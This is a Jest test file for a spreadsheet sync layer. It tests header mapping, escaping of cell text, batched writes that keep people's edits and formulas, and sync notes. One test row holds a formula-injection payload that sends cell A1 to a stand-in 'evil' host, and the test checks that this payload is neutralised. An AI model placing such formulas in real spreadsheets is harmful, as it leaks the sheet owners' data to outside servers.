import { needsApostrophe, toTypedInput } from '../../src/sheet/cell-text';
import { mapHeaders } from '../../src/sheet/headers';
import { SheetTable } from '../../src/sheet/table';
import { MemorySheet } from '../support/memory-sheet';

describe('headers', () => {
  it('finds columns by trimmed, case-insensitive names and Russian aliases', () => {
    const map = mapHeaders([' Имя ', 'Notes', 'PHONE', 'Бюджет', 'amo_deal_id', 'Статус']);
    expect(map).toEqual({ name: 0, phone: 2, budget: 3, amo_deal_id: 4, status: 5 });
  });
});

describe('cell text', () => {
  it.each([
    ['=IMPORTXML("http://evil/?"&A1, "//a")', true],
    ['+79123456789', true],
    ['00123', true],
    ['@x', true],
    ['TRUE', true],
    ['Иван Петров', false],
    ['ivan@example.com', false],
    ['', false],
  ])('%s needs an apostrophe: %s', (text, expected) => {
    expect(needsApostrophe(text)).toBe(expected);
    expect(toTypedInput(text)).toBe(expected ? `'${text}` : text);
  });

  it('leaves numbers and booleans as they are', () => {
    expect(toTypedInput(1500)).toBe(1500);
    expect(toTypedInput(false)).toBe(false);
  });
});

describe('SheetTable.commit', () => {
  const header = ['name', 'notes', 'amo_deal_id', 'status', 'sync_status', 'comment'];

  it('writes only the staged cells: a cell in between keeps what a person put there since', () => {
    const sheet = new MemorySheet([
      header,
      ['Ann', 'n1', '', '', '', 'c1'],
      ['Bob', 'n2', '7', 'Old', 'x', 'c2'],
      ['Cid', 'n3', '', '', '', 'c3'],
    ]);
    const table = SheetTable.read(sheet);
    table.set(table.rows[0], 'amo_deal_id', '11');
    table.set(table.rows[2], 'sync_status', 'synced');
    // A person types into row 3 after the snapshot was read: the commit must not revert it.
    sheet.cells[2][3] = 'Typed';
    expect(table.commit()).toBe(2);
    expect(sheet.writes).toEqual([
      { row: 2, column: 3, values: [['11']] },
      { row: 4, column: 5, values: [['synced']] },
    ]);
    expect(sheet.cells[2]).toEqual(['Bob', 'n2', '7', 'Typed', 'x', 'c2']);
    expect(sheet.cells.map(r => r[1])).toEqual(['notes', 'n1', 'n2', 'n3']);
    expect(sheet.cells.map(r => r[5])).toEqual(['comment', 'c1', 'c2', 'c3']);
  });

  it('stacks the same staged columns of consecutive rows into one write', () => {
    const sheet = new MemorySheet([header, ...[1, 2, 3].map(i => [`P${i}`, '', '', '', '', ''])]);
    const table = SheetTable.read(sheet);
    table.rows.forEach((row, i) => {
      table.set(row, 'amo_deal_id', String(i + 1));
      table.set(row, 'status', 'New');
    });
    expect(table.commit()).toBe(1);
    expect(sheet.writes[0]).toEqual({
      row: 2,
      column: 3,
      values: [
        ['1', 'New'],
        ['2', 'New'],
        ['3', 'New'],
      ],
    });
  });

  it('never writes over a formula a person keeps in a cell', () => {
    const sheet = new MemorySheet([header, ['Ann', '', '5', 'Old', '', '']]);
    sheet.formulas[1] = ['=PROPER("ann")'];
    const table = SheetTable.read(sheet);
    table.set(table.rows[0], 'name', 'Anna');
    table.set(table.rows[0], 'sync_status', 'synced');
    expect(table.commit()).toBe(1);
    expect(sheet.cells[1][0]).toBe('Ann');
    expect(sheet.cells[1][4]).toBe('synced');
  });

  it("keeps the sync's memory in the sync_status cell's note", () => {
    const sheet = new MemorySheet([header, ['Ann', '', '5', '', '', '']]);
    sheet.notes[1] = ['', '', '', '', 'old'];
    const table = SheetTable.read(sheet);
    expect(table.note(table.rows[0])).toBe('old');
    table.setNote(table.rows[0], 'new');
    expect(table.commit()).toBe(1);
    expect(sheet.notes[1][4]).toBe('new');
    expect(SheetTable.read(sheet).note(SheetTable.read(sheet).rows[0])).toBe('new');
  });

  it('splits the write where a foreign column separates synced ones', () => {
    const sheet = new MemorySheet([header, ['Ann', 'n1', '', '', '', 'c1']]);
    const table = SheetTable.read(sheet);
    table.set(table.rows[0], 'name', 'Anna');
    table.set(table.rows[0], 'status', 'Won');
    expect(table.commit()).toBe(2);
    expect(sheet.writes.map(w => w.column)).toEqual([1, 4]);
    expect(sheet.cells[1]).toEqual(['Anna', 'n1', '', 'Won', '', 'c1']);
  });

  it('writes nothing when nothing changed', () => {
    const sheet = new MemorySheet([header, ['Ann', 'n1', '5', 'New', 's', 'c1']]);
    const table = SheetTable.read(sheet);
    table.set(table.rows[0], 'status', 'New');
    expect(table.commit()).toBe(0);
    expect(sheet.writes).toHaveLength(0);
  });
});

describe('plain-text cells', () => {
  it('get the exact string, since an apostrophe would stay in the text', () => {
    expect(toTypedInput('+79123456789', '@')).toBe('+79123456789');
    expect(toTypedInput('+79123456789', '0.00')).toBe("'+79123456789");
  });
});
